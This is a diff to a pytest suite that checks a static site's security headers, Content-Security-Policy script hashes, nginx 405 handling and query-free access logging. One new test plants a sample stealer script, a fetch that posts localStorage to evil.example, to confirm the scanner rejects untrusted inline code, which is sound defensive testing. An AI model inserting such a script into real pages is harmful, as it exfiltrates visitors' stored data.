@@ -3,12 +3,15 @@
 Checks the security headers on every kind of page (404 included), gzip, long caching of
 Material's fingerprinted files, the 404 page in the reader's language, and that Chromium shows
 every kind of page in every language with no Content-Security-Policy violation and no console
-error. Also: _headers for Netlify and Cloudflare Pages, robots.txt, the sitemap's hreflang
-alternates, canonical URLs and meta descriptions of every page.
+error. Also: script-src allows exactly the theme's inline scripts and nothing a page carries; the
+access log keeps no query string; 405 responses say which methods work; _headers for Netlify and
+Cloudflare Pages, robots.txt, the sitemap's hreflang alternates, canonical URLs and meta
+descriptions of every page.
 """
 from __future__ import annotations
 
 import html
+import json
 import os
 import re
 import shutil
@@ -19,14 +22,13 @@ import xml.etree.ElementTree as ET
 from pathlib import Path
 from urllib.parse import urljoin, urlsplit
 
+import jinja2
 import pytest
 import requests
-import yaml
 
 from conftest import LANGUAGES, built_pages, page_url
-from painsite import languages, pages, security
-from painsite.languages import _Loader  # reads mkdocs.yml's !ENV tags without evaluating them
-from painsite.paths import MKDOCS_YML
+from painsite import languages, pages, security, theme_scripts
+from painsite.site_config import mkdocs_config
 
 SITE_URL = languages.site_url()
 SITE_PATH = urlsplit(SITE_URL).path  # /living-with-pain/: the 404 pages link to it absolutely
@@ -71,8 +73,9 @@ def _require_nginx():
 
 
 @pytest.fixture(scope="module")
-def nginx_url(built_site, tmp_path_factory):
-    """nginx serving the built site with deploy/nginx.conf at the path of site_url."""
+def nginx_server(built_site, tmp_path_factory):
+    """nginx serving the built site with deploy/nginx.conf at the path of site_url: (its URL,
+    its access log)."""
     _require_nginx()
     tmp = tmp_path_factory.mktemp("nginx")
     www = tmp / "www"
@@ -80,7 +83,8 @@ def nginx_url(built_site, tmp_path_factory):
     (www / SITE_PATH.strip("/")).symlink_to(built_site, target_is_directory=True)
     port = _free_port()
     conf = _nginx_conf(tmp, security.nginx_config(path=SITE_PATH, www_root=str(www),
-                                                  listen=f"127.0.0.1:{port}", server_name="127.0.0.1"))
+                                                  listen=f"127.0.0.1:{port}", server_name="127.0.0.1",
+                                                  access_log=str(tmp / "access.log")))
     output = open(tmp / "output.log", "wb")
     proc = subprocess.Popen([NGINX, "-p", str(tmp), "-e", str(tmp / "error.log"), "-c", str(conf)],
                             stdout=output, stderr=subprocess.STDOUT)
@@ -97,7 +101,7 @@ def nginx_url(built_site, tmp_path_factory):
                 proc.kill()
                 pytest.fail("nginx did not start listening within 10 s")
             time.sleep(0.05)
-    yield f"http://127.0.0.1:{port}{SITE_PATH}"
+    yield f"http://127.0.0.1:{port}{SITE_PATH}", tmp / "access.log"
     proc.terminate()
     try:
         proc.wait(timeout=10)
@@ -107,6 +111,11 @@ def nginx_url(built_site, tmp_path_factory):
     output.close()
 
 
+@pytest.fixture(scope="module")
+def nginx_url(nginx_server) -> str:
+    return nginx_server[0]
+
+
 @pytest.mark.parametrize("path", ["/", "/pain/", "/nhs/pain-service/"])
 def test_configuration_for_another_path_is_valid(tmp_path, path):
     """`python -m painsite.security nginx --path ...` gives a configuration nginx accepts."""
@@ -114,7 +123,8 @@ def test_configuration_for_another_path_is_valid(tmp_path, path):
     www = tmp_path / "www"
     (www / path.lstrip("/") / "_nginx").mkdir(parents=True)
     (www / path.lstrip("/") / security.NGINX_HEADERS_FILE).write_text('add_header X-Test "1" always;\n')
-    site_conf = security.nginx_config(path=path, www_root=str(www), listen="127.0.0.1:8")
+    site_conf = security.nginx_config(path=path, www_root=str(www), listen="127.0.0.1:8",
+                                      access_log=str(tmp_path / "access.log"))
     assert "living-with-pain" not in re.sub(r"#.*", "", site_conf)
     assert f"error_page 404 {path}pl/404.html;" in site_conf
     conf = _nginx_conf(tmp_path, site_conf)
@@ -127,12 +137,60 @@ def test_inline_code_found_as_the_browser_sees_it():
     found = security.scan_html(
         '<script>var a = "&amp;";</script><script type="application/json">{"b": 1}</script>'
         '<script src="x.js"></script><script type="module">c()</script><style>p{color:red}</style>'
-        '<td style="text-align: right;">1</td><br style="clear: both"/>')
+        '<td style="text-align: right;">1</td><br style="clear: both"/>', trusted=lambda body: True)
     assert found.scripts == {security.sha256_source('var a = "&amp;";'), security.sha256_source("c()")}
     assert found.styles == {security.sha256_source("p{color:red}")}
     assert found.style_attrs == {security.sha256_source("text-align: right;"), security.sha256_source("clear: both")}
     # A known value: the CSP hash of alert('Hello, world.'); from the CSP specification.
     assert security.sha256_source("alert('Hello, world.');") == "'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='"
+
+
+def test_an_inline_script_that_is_not_the_themes_gets_no_hash_and_stops_the_deploy_files(tmp_path):
+    theme = _theme_script("partials/javascripts/palette.html")
+    page = tmp_path / "participants" / "index.html"
+    page.parent.mkdir(parents=True)
+    stealer = 'fetch("https://evil.example/", {method: "POST", body: JSON.stringify(localStorage)})'
+    page.write_text(f"<script>{theme}</script><p>Text</p><script>{stealer}</script>"
+                    '<script type="text/javascript; charset=utf-8">alert(1)</script>', encoding="utf-8")
+    found = security.scan_html(page.read_text(encoding="utf-8"))
+    assert found.scripts == {security.sha256_source(theme)}
+    assert found.untrusted == [stealer[:80], "alert(1)"]  # a type with parameters is still code
+    with pytest.raises(security.UntrustedScript) as raised:
+        security.write_deploy_files(tmp_path, SITE_URL)
+    assert "participants/index.html: fetch(" in str(raised.value) and "Fix: " in str(raised.value)
+    assert not (tmp_path / security.HEADERS_FILE).exists()
+
+
+def _theme_script(template: str, base_url: str = "") -> str:
+    """An inline script of Material's templates, rendered as the theme renders it."""
+    env = jinja2.Environment(loader=jinja2.FileSystemLoader(str(theme_scripts.material_templates())))
+    features = mkdocs_config()["theme"].get("features", [])
+    text = env.get_template(template).render(base_url=base_url, features=features, config={"extra": {}})
+    return re.fullmatch(r"\s*<script>(.*)</script>\s*", text, re.S).group(1)
+
+
+def _base_url(site: Path, page: Path) -> str:
+    """The base address Material writes into a page: relative to the site's root, then into the
+    language's folder (scripts/hooks/i18n_pages.py); 404 pages use the site's path."""
+    parts = page.relative_to(site).parts
+    if parts[-1] == "404.html":
+        return SITE_PATH
+    depth = len(parts) - 1
+    base = "/".join([".."] * depth) or "."
+    lang = next((l for l in LANGUAGES if l.prefix and parts[0] == l.code), None)
+    return f"{base}/{lang.prefix}" if lang else base
+
+
+def test_script_src_is_exactly_the_themes_inline_scripts(built_site, expected_headers):
+    """Worked out from the theme's templates and the site's folders, not from the pages: the
+    palette and anchor scripts, and the __md_scope one for each base address pages have."""
+    themed = [p for p in built_pages(built_site) if "/go/" not in f"/{p.relative_to(built_site).as_posix()}"]
+    expected = {security.sha256_source(_theme_script("partials/javascripts/palette.html")),
+                security.sha256_source(_theme_script("partials/javascripts/content.html"))}
+    expected |= {security.sha256_source(_theme_script("partials/javascripts/base.html", _base_url(built_site, p)))
+                 for p in themed}
+    csp = dict(d.split(" ", 1) for d in expected_headers["Content-Security-Policy"].split("; "))
+    assert set(csp["script-src"].split()) == {"'self'"} | expected
 
 
 @pytest.fixture(scope="module")
@@ -166,7 +224,6 @@ def test_policy_is_strict(expected_headers):
         assert csp[directive] == value, directive
     script_src = csp["script-src"].split()
     assert script_src[0] == "'self'" and all(s.startswith("'sha256-") for s in script_src[1:])
-    assert 3 <= len(script_src) - 1 <= 40, "expected a hash for each variant of Material's few inline scripts"
     assert "unsafe-inline" not in expected_headers["Content-Security-Policy"]
     assert "unsafe-eval" not in expected_headers["Content-Security-Policy"]
     # Only the exact style="" values in the pages (a right-aligned table column) are allowed.
@@ -223,10 +280,44 @@ def test_404_in_the_readers_language(nginx_url, lang):
 
 def test_build_files_for_servers_are_not_served(nginx_url, built_site):
     assert (built_site / "_headers").is_file() and (built_site / security.NGINX_HEADERS_FILE).is_file()
-    for path in ["_headers", security.NGINX_HEADERS_FILE, "_nginx/"]:
-        response = requests.get(nginx_url + path, timeout=10)
+    for path in ["_headers", security.NGINX_HEADERS_FILE, "_nginx/", "_nginx"]:
+        # No redirect from /_nginx to /_nginx/ either: that would say the folder is there.
+        response = requests.get(nginx_url + path, timeout=10, allow_redirects=False)
         assert response.status_code == 404, path
         assert "add_header" not in response.text and "Content-Security-Policy:" not in response.text
+
+
+@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "OPTIONS", "PATCH"])
+def test_other_methods_get_405_with_allow(nginx_url, expected_headers, method):
+    for path in ["", "participants/pacing/", "pl/participants/pacing/", "assets/site.css"]:
+        response = requests.request(method, nginx_url + path, timeout=10, allow_redirects=False)
+        assert response.status_code == 405, f"{method} /{path}"
+        assert response.headers.get("Allow") == "GET, HEAD", f"{method} /{path}"
+        assert response.headers["Content-Security-Policy"] == expected_headers["Content-Security-Policy"]
+
+
+def test_search_terms_never_reach_the_access_log(nginx_server, built_site):
+    url, log = nginx_server
+    secret = "my-private-search-words"
+    requests.get(url + f"participants/pacing/?h={secret}", timeout=10)
+    requests.get(url + f"search/search_index.json?q={secret}", timeout=10,
+                 headers={"Referer": f"{url}participants/?q={secret}"})
+    requests.post(url + f"participants/?q={secret}", timeout=10)
+    requests.get(url + f"no-such-page/?q={secret}", timeout=10)
+    deadline = time.monotonic() + 5  # nginx writes the line once the response is sent
+    while time.monotonic() < deadline and log.read_text().count("\n") < 4:
+        time.sleep(0.05)
+    lines = log.read_text().splitlines()[-4:]
+    assert [re.search(r'"(\S+ \S+) HTTP', line).group(1) for line in lines] == [
+        f"GET {SITE_PATH}participants/pacing/", f"GET {SITE_PATH}search/search_index.json",
+        f"POST {SITE_PATH}participants/", f"GET {SITE_PATH}no-such-page/"]
+    assert f'"{url}participants/"' in lines[1]  # the referring page, without its query
+    assert secret not in log.read_text()
+    # Nor does Material put them there: search.highlight would add ?h=<the words> to every result.
+    assert "search.highlight" not in mkdocs_config()["theme"].get("features", [])
+    config = re.search(r'<script id="__config" type="application/json">(.*?)</script>',
+                       (built_site / "index.html").read_text(encoding="utf-8"), re.S).group(1)
+    assert "search.highlight" not in json.loads(config)["features"]
 
 
 def test_headers_file_for_static_hosts(built_site, expected_headers):
@@ -315,7 +406,7 @@ DESCRIPTION = re.compile(r'<meta name="description" content="([^"]*)"')
 
 def test_canonical_url_and_own_description_on_every_page(built_site):
     # What Material writes when a page has no description of its own.
-    site_description = yaml.load(MKDOCS_YML.read_text(encoding="utf-8"), Loader=_Loader)["site_description"]
+    site_description = mkdocs_config()["site_description"]
     problems = []
     for url in _content_pages(built_site):
         text = (built_site / (url + "index.html" if url.endswith("/") or not url else url)).read_text(encoding="utf-8")
